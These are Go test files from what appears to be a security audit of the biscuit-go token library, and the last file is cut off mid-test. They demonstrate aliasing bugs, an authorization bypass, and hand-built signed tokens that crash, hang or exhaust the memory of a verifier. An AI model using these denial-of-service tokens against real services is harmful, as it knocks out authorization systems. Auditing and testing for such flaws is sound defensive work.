	blk2 := bb.Build()
	c1, err := parent.Append(rand.Reader, blk1)
	if err != nil {
		t.Fatal(err)
	}
	c2, err := parent.Append(rand.Reader, blk2)
	if err != nil {
		t.Fatal(err)
	}
	if c1.String() != c2.String() {
		t.Errorf("two Build calls on one block builder gave different blocks:\nfirst:%s\nsecond:%s", c1.String(), c2.String())
	}
	q := biscuit.Predicate{Name: "resource", IDs: []biscuit.Term{biscuit.String("alpha")}}
	amb := []biscuit.Fact{c08fact("resource", "alpha")}
	if a, b := c08authorize(c1, pub, amb, q), c08authorize(c2, pub, amb, q); a != b {
		t.Errorf("authorization differs: %q vs %q", a, b)
	}
}

func TestC08_F3c_BlockBuilderAddAfterBuildWrongSymbols(t *testing.T) {
	_, parent := c08parent(t)
	bb := parent.CreateBlock()
	_ = bb.AddFact(c08fact("tag", "alpha"))
	_ = bb.Build()
	_ = bb.AddFact(c08fact("tag", "beta"))
	var blk *biscuit.Block
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("Build after add-after-Build panicked: %v", r)
			}
		}()
		blk = bb.Build()
	}()
	if blk == nil {
		return
	}
	c, err := parent.Append(rand.Reader, blk)
	if err != nil {
		t.Fatal(err)
	}
	s := c.String()
	if !strings.Contains(s, `tag("alpha")`) || !strings.Contains(s, `tag("beta")`) {
		t.Errorf("block does not contain what its caller put in (tag(alpha), tag(beta)):\n%s", s)
	}
}

// ---------------------------------------------------------------------------------
// F4: two block builders created from the same parent; the blocks are appended one
// after the other (parent -> t1 -> t2). Append only checks that the symbol *strings*
// are disjoint (biscuit.go:165) and then re-bases nothing: the second block's symbol
// indexes, computed against the parent's table, now point at the first block's
// symbols. The second block silently means something else than its caller wrote.
// ---------------------------------------------------------------------------------
func TestC08_F4_SiblingBlocksChainedSecondBlockReinterpreted(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv)
	_ = b.AddAuthorityFact(c08fact("right", "read"))
	parent, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	bbA := parent.CreateBlock()
	bbB := parent.CreateBlock()
	_ = bbA.AddCheck(c08checkHas("resource", "alpha")) // caller A: only resource alpha
	_ = bbB.AddCheck(c08checkHas("resource", "beta"))  // caller B: only resource beta
	blkA, blkB := bbA.Build(), bbB.Build()

	t1, err := parent.Append(rand.Reader, blkA)
	if err != nil {
		t.Fatal(err)
	}
	t2, err := t1.Append(rand.Reader, blkB)
	if err != nil {
		// rejecting would be fine
		return
	}
	// t2 must require resource(alpha) AND resource(beta). A request for alpha only must be denied.
	amb := []biscuit.Fact{c08fact("resource", "alpha")}
	out := c08authorize(t2, pub, amb, biscuit.Predicate{Name: "resource", IDs: []biscuit.Term{biscuit.String("alpha")}})
	if out == "allow" {
		t.Errorf("block B's check 'resource(beta)' is gone: request with only resource(alpha) is allowed.\n%s", t2.String())
	}
	if !strings.Contains(t2.String(), `resource("beta")`) {
		t.Errorf("appended block B does not contain the check its caller put in (resource(\"beta\")):\n%s", t2.String())
	}
}

// ---------------------------------------------------------------------------------
// F5: RevocationIds returns the token's own signature slices (biscuit.go:616-623).
// The pb.SignedBlock objects are shared by the whole family (Append/Seal copy the
// pointer, biscuit.go:225-226, 291-292), so writing into the returned bytes breaks
// the parent and every sibling.
// ---------------------------------------------------------------------------------
func TestC08_F5_RevocationIdsAliasesSharedSignature(t *testing.T) {
	pub, parent := c08parent(t)
	bb1 := parent.CreateBlock()
	_ = bb1.AddCheck(c08checkHas("resource", "file1"))
	c1, _ := parent.Append(rand.Reader, bb1.Build())
	bb2 := parent.CreateBlock()
	_ = bb2.AddCheck(c08checkHas("resource", "file2"))
	c2, _ := parent.Append(rand.Reader, bb2.Build())

	before := []string{c08snap(t, parent, pub), c08snap(t, c2, pub)}
	ids := c1.RevocationIds()
	ids[0][0] ^= 0xff // caller scribbles on "its" copy of child 1's revocation id
	after := []string{c08snap(t, parent, pub), c08snap(t, c2, pub)}
	ids[0][0] ^= 0xff
	for i := range before {
		if before[i] != after[i] {
			t.Errorf("token %d (not c1) changed after writing into c1.RevocationIds():\n%s", i, c08diff(before[i], after[i]))
		}
	}
}

// F5b: RootKeyID returns the pointer stored in the (family-shared) container
// (biscuit.go:546-548; the pointer is copied by Append/Seal, biscuit.go:224, 290).
func TestC08_F5b_RootKeyIDAliasesSharedField(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv, biscuit.WithRootKeyID(7))
	_ = b.AddAuthorityFact(c08fact("right", "file1", "read"))
	parent, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	bb := parent.CreateBlock()
	_ = bb.AddCheck(c08checkHas("resource", "file1"))
	child, _ := parent.Append(rand.Reader, bb.Build())
	before := c08snap(t, parent, pub)
	*child.RootKeyID() = 99
	after := c08snap(t, parent, pub)
	if before != after || *parent.RootKeyID() != 7 {
		t.Errorf("parent's root key id is now %d; parent changed after writing through child.RootKeyID():\n%s", *parent.RootKeyID(), c08diff(before, after))
	}
}

// ---------------------------------------------------------------------------------
// F6: Checks() returns the blocks' own check slices (biscuit.go:460-467); the slices
// are shared by parent and children (shallow Block copy). Overwriting an element
// removes a check from the in-memory tokens of the whole family.
// ---------------------------------------------------------------------------------
func TestC08_F6_ChecksAliasesInternalSlices(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv)
	_ = b.AddAuthorityFact(c08fact("right", "file1", "read"))
	_ = b.AddAuthorityCheck(c08checkHas("resource", "file1"))
	parent, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	bb := parent.CreateBlock()
	_ = bb.AddCheck(c08checkHas("operation", "read"))
	child, _ := parent.Append(rand.Reader, bb.Build())

	before := c08snap(t, parent, pub)
	cs := child.Checks()
	saved := cs[0][0]
	cs[0][0] = datalog.Check{Queries: []datalog.Rule{{}}} // "check if true", written into the child's result
	after := c08snap(t, parent, pub)
	cs[0][0] = saved
	if before != after {
		t.Errorf("parent changed after writing into child.Checks():\n%s", c08diff(before, after))
	}
}

// ---------------------------------------------------------------------------------
// F7: Bytes terms are stored by reference (types.go: Bytes.convert), block builder
// Build copies only the top-level slices (builder.go:293-300). The caller's buffer
// stays live inside the built block and the appended token.
// ---------------------------------------------------------------------------------
func TestC08_F7_BytesTermAliasesCallerBuffer(t *testing.T) {
	pub, parent := c08parent(t)
	buf := []byte{1, 2, 3, 4}
	bb := parent.CreateBlock()
	_ = bb.AddFact(biscuit.Fact{Predicate: biscuit.Predicate{Name: "nonce", IDs: []biscuit.Term{biscuit.Bytes(buf)}}})
	child, err := parent.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	before := c08snap(t, child, pub)
	buf[0] = 0xee // caller reuses its buffer
	after := c08snap(t, child, pub)
	if before != after {
		t.Errorf("token changed when the caller reused the buffer it had passed as a Bytes term:\n%s", c08diff(before, after))
	}
}

// F7b: the same byte slice travels token -> authorizer world -> Authorizer.Query result
// (types.go fromDatalogID / Bytes.convert never copy); writing into a query result
// writes into the token.
func TestC08_F7b_QueryResultAliasesTokenBytes(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv)
	_ = b.AddAuthorityFact(biscuit.Fact{Predicate: biscuit.Predicate{Name: "nonce", IDs: []biscuit.Term{biscuit.Bytes([]byte{1, 2, 3, 4})}}})
	built, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	ser, _ := built.Serialize()
	tok, err := biscuit.Unmarshal(ser) // no caller-owned buffer is involved any more
	if err != nil {
		t.Fatal(err)
	}
	before := c08snap(t, tok, pub)
	a, err := tok.Authorizer(pub, c08limits)
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(biscuit.DefaultAllowPolicy)
	_ = a.Authorize()
	res, err := a.Query(biscuit.Rule{
		Head: biscuit.Predicate{Name: "q", IDs: []biscuit.Term{biscuit.Variable("n")}},
		Body: []biscuit.Predicate{{Name: "nonce", IDs: []biscuit.Term{biscuit.Variable("n")}}},
	})
	if err != nil || len(res) != 1 {
		t.Fatalf("query: %v %v", res, err)
	}
	res[0].IDs[0].(biscuit.Bytes)[0] = 0xee
	after := c08snap(t, tok, pub)
	if before != after {
		t.Errorf("token changed after writing into an Authorizer.Query result:\n%s", c08diff(before, after))
	}
}

// ---------------------------------------------------------------------------------
// F8: NewBlockBuilder keeps the caller's *SymbolTable (builder.go:232-238): two block
// builders made from one table write into each other's symbols and Build truncates
// the caller's table.
// ---------------------------------------------------------------------------------
func TestC08_F8_NewBlockBuilderSharesCallerTable(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	base := &datalog.SymbolTable{"file1"}
	b := biscuit.NewBuilder(priv, biscuit.WithSymbols(base))
	_ = b.AddAuthorityFact(c08fact("right", "file1", "read"))
	parent, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	_ = pub
	table := &datalog.SymbolTable{"file1"} // the token's table, as known to the caller
	bbA := biscuit.NewBlockBuilder(table)
	bbB := biscuit.NewBlockBuilder(table)
	_ = bbA.AddFact(c08fact("tag", "alpha"))
	_ = bbB.AddFact(c08fact("tag", "beta"))
	blkA := bbA.Build()
	var blkB *biscuit.Block
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("second builder's Build panicked: %v", r)
			}
		}()
		blkB = bbB.Build()
	}()
	cA, err := parent.Append(rand.Reader, blkA)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(cA.String(), "beta") {
		t.Errorf("block A contains builder B's symbol:\n%s", cA.String())
	}
	if blkB != nil {
		cB, err := parent.Append(rand.Reader, blkB)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(cB.String(), `tag("beta")`) {
			t.Errorf("block B does not contain tag(\"beta\"):\n%s", cB.String())
		}
	}
	if len(*table) != 1 {
		t.Errorf("caller's symbol table changed: %q", *table)
	}
}

// ---------------------------------------------------------------------------------
// Negative controls / search harness (these PASS on the unchanged code)
// ---------------------------------------------------------------------------------

// Unmarshal must not keep a reference to the input buffer.
func TestC08_N1_UnmarshalDoesNotAliasInput(t *testing.T) {
	pub, parent := c08parent(t)
	ser, _ := parent.Serialize()
	tok, err := biscuit.Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	before := c08snap(t, tok, pub)
	for i := range ser {
		ser[i] = 0
	}
	if after := c08snap(t, tok, pub); after != before {
		t.Errorf("token changed with its input buffer:\n%s", c08diff(before, after))
	}
}

// Serialize must return a fresh buffer.
func TestC08_N2_SerializeFresh(t *testing.T) {
	_, parent := c08parent(t)
	s1, _ := parent.Serialize()
	cp := append([]byte{}, s1...)
	for i := range s1 {
		s1[i] = 0
	}
	s2, _ := parent.Serialize()
	if !bytes.Equal(cp, s2) {
		t.Errorf("Serialize result aliased")
	}
}
