package biscuit

// Demonstrations for property C10 (untrusted token bytes can never crash / hang the verifier).
// Package directory: repository root (package biscuit).
//
//	go test -run 'TestC10' -count=1 .
//	go test -race -run 'TestC10_LeakedProducerOutlivesAuthorize' -count=1 .   (same test, now also with
//	                the race detector's reports: SymbolTable.Insert in datalog.combine.func1 against
//	                SymbolTable.Insert / Str in the goroutine that called Authorize)
//
// Every test FAILS on the unchanged library.

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

// ---------------------------------------------------------------------------------------------
// helpers: the attacker builds the protobuf by hand and signs it with a root key of his choosing

func c10Sign(t testing.TB, blocks ...*pb.Block) ([]byte, ed25519.PublicKey) {
	t.Helper()
	rootPub, rootPriv, _ := ed25519.GenerateKey(rand.Reader)
	cur := rootPriv
	var signed []*pb.SignedBlock
	for _, blk := range blocks {
		raw, err := proto.Marshal(blk)
		if err != nil {
			t.Fatal(err)
		}
		npub, npriv, _ := ed25519.GenerateKey(rand.Reader)
		alg := pb.PublicKey_Ed25519
		a := make([]byte, 4)
		binary.LittleEndian.PutUint32(a, uint32(alg))
		toSign := append([]byte{}, raw...)
		toSign = append(toSign, a...)
		toSign = append(toSign, npub...)
		signed = append(signed, &pb.SignedBlock{
			Block:     raw,
			NextKey:   &pb.PublicKey{Algorithm: &alg, Key: npub},
			Signature: ed25519.Sign(cur, toSign),
		})
		cur = npriv
	}
	out, err := proto.Marshal(&pb.Biscuit{
		Authority: signed[0],
		Blocks:    signed[1:],
		Proof:     &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: cur.Seed()}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return out, rootPub
}

func c10Str(i uint64) *pb.TermV2 { return &pb.TermV2{Content: &pb.TermV2_String_{String_: i}} }
func c10Var(i uint32) *pb.TermV2 { return &pb.TermV2{Content: &pb.TermV2_Variable{Variable: i}} }
func c10Int(i int64) *pb.TermV2  { return &pb.TermV2{Content: &pb.TermV2_Integer{Integer: i}} }
func c10Pred(name uint64, terms ...*pb.TermV2) *pb.PredicateV2 {
	return &pb.PredicateV2{Name: &name, Terms: terms}
}
func c10Val(t *pb.TermV2) *pb.Op { return &pb.Op{Content: &pb.Op_Value{Value: t}} }
func c10Bin(k pb.OpBinary_Kind) *pb.Op {
	return &pb.Op{Content: &pb.Op_Binary{Binary: &pb.OpBinary{Kind: &k}}}
}

// countGoroutinesIn counts the goroutines that currently have a frame of the named function.
func countGoroutinesIn(needle string) int {
	buf := make([]byte, 1<<22)
	buf = buf[:runtime.Stack(buf, true)]
	// "created by ..." lines name the creator, not a frame of the goroutine itself
	return bytes.Count(buf, []byte(needle+"(")) - bytes.Count(buf, []byte("created by "+needle))
}

// ---------------------------------------------------------------------------------------------
// Finding 1: a check whose query head names a variable that is absent from its body makes
// Rule.Apply return early (InvalidRuleError, ignored by World.QueryRule) while the producer
// goroutine of datalog.combine keeps enumerating all fact combinations, evaluating the expressions
// -- and string concatenation in an expression calls SymbolTable.Insert on the authorizer's symbol
// table -- concurrently with the calling goroutine, which goes on using that same table.

// leakyProducerToken: authority block with nFacts facts f("s_i"), a first check
//
//	check if f($a), f($b), f($c), $a + $b + $c == "s0s0s0"     with query head  q($zz)   ($zz unbound)
//
// followed by nChecks checks that each introduce a fresh symbol (so that the calling goroutine
// appends to the symbol table, too).
func leakyProducerToken(t testing.TB, nFacts, nChecks int) ([]byte, ed25519.PublicKey) {
	blk := &pb.Block{Version: proto.Uint32(3)}
	// symbols: 1024 = "f", 1025 = "q", 1026 = "s0s0s0", 1027.. = s_i, then t_j
	blk.Symbols = []string{"f", "q", "s0s0s0"}
	const base = 1027
	for i := 0; i < nFacts; i++ {
		blk.Symbols = append(blk.Symbols, fmt.Sprintf("s%d", i))
		blk.FactsV2 = append(blk.FactsV2, &pb.FactV2{Predicate: c10Pred(1024, c10Str(uint64(base+i)))})
	}
	const vA, vB, vC, vZZ = 1, 2, 3, 4 // variable ids (names taken from the default symbols)
	blk.ChecksV2 = append(blk.ChecksV2, &pb.CheckV2{Queries: []*pb.RuleV2{{
		Head: c10Pred(1025, c10Var(vZZ)),
		Body: []*pb.PredicateV2{c10Pred(1024, c10Var(vA)), c10Pred(1024, c10Var(vB)), c10Pred(1024, c10Var(vC))},
		Expressions: []*pb.ExpressionV2{{Ops: []*pb.Op{
			c10Val(c10Var(vA)), c10Val(c10Var(vB)), c10Bin(pb.OpBinary_Add),
			c10Val(c10Var(vC)), c10Bin(pb.OpBinary_Add),
			c10Val(c10Str(1026)), c10Bin(pb.OpBinary_Equal),
		}}},
	}}})
	tBase := uint64(base + nFacts)
	for j := 0; j < nChecks; j++ {
		blk.Symbols = append(blk.Symbols, fmt.Sprintf("t%d", j))
		blk.ChecksV2 = append(blk.ChecksV2, &pb.CheckV2{Queries: []*pb.RuleV2{{
			Head: c10Pred(1025),
			Body: []*pb.PredicateV2{c10Pred(1024, c10Str(tBase+uint64(j)))},
		}}})
	}
	return c10Sign(t, blk)
}

// Authorize has returned, yet a library-owned goroutine started on behalf of the token is still
// running (and it will for nFacts^3 expression evaluations, each one a write to the
// authorizer's symbol table). With a few hundred facts and more predicates this is "forever".
func TestC10_LeakedProducerOutlivesAuthorize(t *testing.T) {
	data, root := leakyProducerToken(t, 300, 10)
	t.Logf("token size: %d bytes", len(data))
	b, err := Unmarshal(data)
	if err != nil {
		t.Fatal(err)
	}
	a, err := b.Authorizer(root, WithWorldOptions(datalog.WithMaxDuration(10*time.Second)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(DefaultAllowPolicy)
	before := countGoroutinesIn("datalog.combine.func1")
	start := time.Now()
	err = a.Authorize()
	msg := fmt.Sprint(err)
	if len(msg) > 200 {
		msg = msg[:200] + "..."
	}
	t.Logf("Authorize returned after %v: %s", time.Since(start), msg)
	time.Sleep(200 * time.Millisecond)
	if countGoroutinesIn("datalog.combine.func1") > before {
		t.Errorf("a datalog.combine producer goroutine is still running %v after Authorize returned; it keeps writing to the authorizer's symbol table", time.Since(start))
	}
}

// The consequence: a worker process that does nothing but verify that one token, in
// a plain single-goroutine loop, each call wrapped in recover() the way a careful server would.
// The torn reads/writes of the symbol table's slice header and string headers end in a nil
// dereference within seconds to a minute -- most of the time on the library's own producer
// goroutine, where no recover() of the application can catch it, so the process dies.
func TestC10_CrashWorker(t *testing.T) {
	if os.Getenv("C10_CRASH_WORKER") != "1" {
		t.Skip("helper process of TestC10_LeakedProducerCrashesProcess")
	}
	data, root := leakyProducerToken(t, 12, 200)
	fmt.Fprintf(os.Stderr, "C10-WORKER: token size %d bytes\n", len(data))
	verify := func() (recovered interface{}) {
		defer func() { recovered = recover() }()
		b, err := Unmarshal(data)
		if err != nil {
			return nil
		}
		a, err := b.Authorizer(root, WithWorldOptions(datalog.WithMaxDuration(10*time.Second)))
		if err != nil {
			return nil
		}
		a.AddPolicy(DefaultAllowPolicy)
		_ = a.Authorize()
		return nil
	}
	deadline := time.Now().Add(180 * time.Second)
	n := 0
	for time.Now().Before(deadline) {
		if r := verify(); r != nil {
			fmt.Fprintf(os.Stderr, "C10-WORKER: verification #%d panicked on the calling goroutine: %v\n", n, r)
			os.Exit(3)
		}
		n++
	}
	fmt.Fprintf(os.Stderr, "C10-WORKER: survived %d verifications\n", n)
	os.Exit(0)
}

func TestC10_LeakedProducerCrashesProcess(t *testing.T) {
	devnull, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer devnull.Close()
	cmd := exec.Command(os.Args[0], "-test.run=^TestC10_CrashWorker$", "-test.count=1")
	cmd.Env = append(os.Environ(), "C10_CRASH_WORKER=1")
	cmd.Stdout = devnull // the library prints "expression error" lines there
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	start := time.Now()
	err = cmd.Run()
	s := stderr.String()
	if len(s) > 2500 {
		s = s[:2500] + "\n...[truncated]"
	}
	if err != nil {
		t.Errorf("the worker process was terminated after %v of verifying the token: %v\n%s", time.Since(start).Round(time.Second), err, s)
		return
	}
	t.Logf("worker survived: %s", s)
}

// ---------------------------------------------------------------------------------------------
// Finding 2: nothing bounds the evaluation of check queries (they run through World.QueryRule on
// the calling goroutine, outside World.Run and its limits). A token of a few kilobytes makes
// Authorize spin for nFacts^k steps, whatever WithMaxDuration says.

func TestC10_CheckQueryIgnoresRunLimits(t *testing.T) {
	blk := &pb.Block{Version: proto.Uint32(3), Symbols: []string{"f", "q"}}
	for i := 0; i < 200; i++ {
		blk.FactsV2 = append(blk.FactsV2, &pb.FactV2{Predicate: c10Pred(1024, c10Int(int64(i)))})
	}
	// check if f($1), f($2), ..., f($8), $1 + $2 < 0        (200^8 = 2.5e18 combinations)
	q := &pb.RuleV2{Head: c10Pred(1025)}
	for v := uint32(1); v <= 8; v++ {
		q.Body = append(q.Body, c10Pred(1024, c10Var(v)))
	}
	q.Expressions = []*pb.ExpressionV2{{Ops: []*pb.Op{
		c10Val(c10Var(1)), c10Val(c10Var(2)), c10Bin(pb.OpBinary_Add), c10Val(c10Int(0)), c10Bin(pb.OpBinary_LessThan),
	}}}
	blk.ChecksV2 = []*pb.CheckV2{{Queries: []*pb.RuleV2{q}}}
	data, root := c10Sign(t, blk)
	t.Logf("token size: %d bytes", len(data))

	b, err := Unmarshal(data)
	if err != nil {
		t.Fatal(err)
	}
	a, err := b.Authorizer(root, WithWorldOptions(datalog.WithMaxDuration(100*time.Millisecond), datalog.WithMaxFacts(1000), datalog.WithMaxIterations(100)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(DefaultAllowPolicy)
	done := make(chan error, 1)
	go func() { done <- a.Authorize() }()
	select {
	case err := <-done:
		t.Logf("Authorize returned: %v", err)
	case <-time.After(5 * time.Second):
		t.Errorf("Authorize has not returned after 5s although the world is limited to 100ms (it never will: 200^8 combinations)")
	}
}

// Same token shape, but as a rule: World.Run gives up after maxDuration, the worker goroutine does
// not (the deadline is only looked at between two rules), so every verification of the token
// leaves one goroutine spinning for good.
func TestC10_RunWorkerOutlivesTimeout(t *testing.T) {
	blk := &pb.Block{Version: proto.Uint32(3), Symbols: []string{"f", "q"}}
	for i := 0; i < 200; i++ {
		blk.FactsV2 = append(blk.FactsV2, &pb.FactV2{Predicate: c10Pred(1024, c10Int(int64(i)))})
	}
	r := &pb.RuleV2{Head: c10Pred(1025)}
	for v := uint32(1); v <= 8; v++ {
		r.Body = append(r.Body, c10Pred(1024, c10Var(v)))
	}
	r.Expressions = []*pb.ExpressionV2{{Ops: []*pb.Op{
		c10Val(c10Var(1)), c10Val(c10Var(2)), c10Bin(pb.OpBinary_Add), c10Val(c10Int(0)), c10Bin(pb.OpBinary_LessThan),
	}}}
	blk.RulesV2 = []*pb.RuleV2{r}
	data, root := c10Sign(t, blk)

	b, err := Unmarshal(data)
	if err != nil {
		t.Fatal(err)
	}
	a, err := b.Authorizer(root, WithWorldOptions(datalog.WithMaxDuration(100*time.Millisecond)))
	if err != nil {
		t.Fatal(err)
	}
	before := countGoroutinesIn("datalog.(*World).Run.func1")
	err = a.Authorize()
	t.Logf("Authorize returned: %v", err)
	time.Sleep(2 * time.Second)
	if countGoroutinesIn("datalog.(*World).Run.func1") > before {
		t.Errorf("the World.Run worker goroutine is still running 2s after Authorize reported the 100ms timeout")
	}
}

// ---------------------------------------------------------------------------------------------
// Finding 3: memory. String concatenation interns every intermediate result in the authorizer's
// symbol table: "A"+"A"+...+"A" (n operands of length L) retains L*n^2/2 bytes, and it is evaluated
// where no limit applies (a check query). A ~45 kB token asks for ~13 GB; the process is killed by
// the Go runtime ("fatal error: runtime: out of memory") or by the kernel's OOM killer.
//
// The test re-executes the test binary as a worker process whose address space is capped at 4 GiB,
// the way a container would be, and looks at how that process ended.

func memoryBombToken(t testing.TB, symLen, operands int) ([]byte, ed25519.PublicKey) {
	blk := &pb.Block{Version: proto.Uint32(3), Symbols: []string{"q", strings.Repeat("A", symLen)}}
	ops := []*pb.Op{c10Val(c10Str(1025))}
	for i := 1; i < operands; i++ {
		ops = append(ops, c10Val(c10Str(1025)), c10Bin(pb.OpBinary_Add))
	}
	ops = append(ops, c10Val(c10Str(1025)), c10Bin(pb.OpBinary_Equal))
	blk.ChecksV2 = []*pb.CheckV2{{Queries: []*pb.RuleV2{{
		Head:        c10Pred(1024),
		Expressions: []*pb.ExpressionV2{{Ops: ops}},
	}}}}
	return c10Sign(t, blk)
}

func TestC10_MemoryBombWorker(t *testing.T) {
	if os.Getenv("C10_BOMB_WORKER") != "1" {
		t.Skip("helper process of TestC10_MemoryBomb")
	}
	lim := syscall.Rlimit{Cur: 4 << 30, Max: 4 << 30}
	if err := syscall.Setrlimit(syscall.RLIMIT_AS, &lim); err != nil {
		fmt.Println("C10-WORKER: setrlimit failed:", err)
		os.Exit(7)
	}
	data, root := memoryBombToken(t, 16*1024, 1300)
	fmt.Printf("C10-WORKER: token size %d bytes\n", len(data))
	b, err := Unmarshal(data)
	if err != nil {
		fmt.Println("C10-WORKER: returned error:", err)
		os.Exit(0)
	}
	a, err := b.Authorizer(root, WithWorldOptions(datalog.WithMaxDuration(100*time.Millisecond)))
	if err != nil {
		fmt.Println("C10-WORKER: returned error:", err)
		os.Exit(0)
	}
	a.AddPolicy(DefaultAllowPolicy)
	err = a.Authorize()
	fmt.Println("C10-WORKER: Authorize returned:", err)
	os.Exit(0)
}

func TestC10_MemoryBomb(t *testing.T) {
	cmd := exec.Command(os.Args[0], "-test.run=^TestC10_MemoryBombWorker$", "-test.count=1")
	cmd.Env = append(os.Environ(), "C10_BOMB_WORKER=1")
	out, err := cmd.CombinedOutput()
	s := string(out)
	if len(s) > 1500 {
		s = s[:1500] + "\n...[truncated]"
	}
	if err != nil {
		t.Errorf("the worker process verifying the token was terminated: %v\n%s", err, s)
		return
	}
	t.Logf("worker survived:\n%s", s)
}

// ---------------------------------------------------------------------------------------------
// Finding 4: the evaluator reports expression errors with fmt.Printf on the process's standard
// output (datalog.go, combine). A Go process that writes to a broken pipe on fd 1 is killed by
// SIGPIPE, so a token with an ill-typed expression ("1 + true") terminates a verifier whose stdout
// is a pipe that has lost its reader (log shipper restarted, `service | logger`, ...).

func TestC10_StdoutWorker(t *testing.T) {
	if os.Getenv("C10_STDOUT_WORKER") != "1" {
		t.Skip("helper process of TestC10_ExpressionErrorWritesToStdout")
	}
	blk := &pb.Block{Version: proto.Uint32(3), Symbols: []string{"q"}}
	blk.ChecksV2 = []*pb.CheckV2{{Queries: []*pb.RuleV2{{
		Head: c10Pred(1024),
		Expressions: []*pb.ExpressionV2{{Ops: []*pb.Op{
			c10Val(c10Int(1)), c10Val(&pb.TermV2{Content: &pb.TermV2_Bool{Bool: true}}), c10Bin(pb.OpBinary_Add),
		}}},
	}}}}
	data, root := c10Sign(t, blk)
	b, err := Unmarshal(data)
	if err != nil {
		fmt.Fprintln(os.Stderr, "C10-WORKER: error:", err)
		os.Exit(0)
	}
	a, err := b.Authorizer(root, WithWorldOptions(datalog.WithMaxDuration(10*time.Second)))
	if err != nil {
		fmt.Fprintln(os.Stderr, "C10-WORKER: error:", err)
		os.Exit(0)
	}
	a.AddPolicy(DefaultAllowPolicy)
	err = a.Authorize()
	fmt.Fprintln(os.Stderr, "C10-WORKER: Authorize returned:", err)
	os.Exit(0)
}

func TestC10_ExpressionErrorWritesToStdout(t *testing.T) {
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(os.Args[0], "-test.run=^TestC10_StdoutWorker$", "-test.count=1")
	cmd.Env = append(os.Environ(), "C10_STDOUT_WORKER=1")
	cmd.Stdout = pw
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	pw.Close()
	pr.Close() // the reader of the worker's stdout goes away
	err = cmd.Wait()
	if err != nil {
		t.Errorf("the worker process verifying the token was terminated: %v (stderr: %q)", err, stderr.String())
		return
	}
	t.Logf("worker survived: %s", stderr.String())
}
