package biscuit

// C04 audit demos. This file belongs to the root package directory of the repository
// (package biscuit, next to authorizer.go).
//
// Every test reports (t.Errorf) exactly when the library's verdict deviates from the decision
// procedure of property C04 for the stated authorizer/token contents.

import (
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

var c04Limits = WithWorldOptions(
	datalog.WithMaxDuration(30*time.Second),
	datalog.WithMaxFacts(100000),
	datalog.WithMaxIterations(10000),
)

func c04Verdict(err error) string {
	switch {
	case err == nil:
		return "allow"
	case errors.Is(err, ErrPolicyDenied):
		return "policy-denied"
	case errors.Is(err, ErrNoMatchingPolicy):
		return "no-matching-policy"
	default:
		return "failure(" + err.Error() + ")"
	}
}

func c04Token(t *testing.T, facts ...Fact) (*Biscuit, ed25519.PublicKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	b := NewBuilder(priv)
	for _, f := range facts {
		if err := b.AddAuthorityFact(f); err != nil {
			t.Fatal(err)
		}
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return tok, pub
}

func c04Fact(name string, ids ...Term) Fact { return Fact{Predicate{Name: name, IDs: ids}} }

// ---------------------------------------------------------------------------------------------
// Finding 1: the first Authorize() silently removes the authorizer's own rules (World.ResetRules
// at authorizer.go:218 drops them together with the authority rules, but only the authority rules
// are loaded again by the next call). An authorizer that is evaluated, given one more fact and
// evaluated again decides with a rule set that is not the one it holds: here a deny policy that
// depends on a derived fact no longer fires and the request is ALLOWED.
// ---------------------------------------------------------------------------------------------
func TestC04AuthorizerRulesLostAfterFirstAuthorize(t *testing.T) {
	tok, pub := c04Token(t, c04Fact("user", String("alice")))

	banned := Rule{
		Head: Predicate{Name: "banned", IDs: []Term{Variable("u")}},
		Body: []Predicate{
			{Name: "user", IDs: []Term{Variable("u")}},
			{Name: "blocklist", IDs: []Term{Variable("u")}},
		},
	}
	deny := Policy{Kind: PolicyKindDeny, Queries: []Rule{{
		Head: Predicate{Name: "deny"},
		Body: []Predicate{{Name: "banned", IDs: []Term{Variable("u")}}},
	}}}
	allow := Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: Predicate{Name: "allow"},
		Body: []Predicate{{Name: "user", IDs: []Term{Variable("u")}}},
	}}}
	blocklisted := c04Fact("blocklist", String("alice"))

	// the authorizer under test: evaluated once, then given the blocklist entry, then evaluated again
	a, err := tok.Authorizer(pub, c04Limits)
	if err != nil {
		t.Fatal(err)
	}
	a.AddRule(banned)
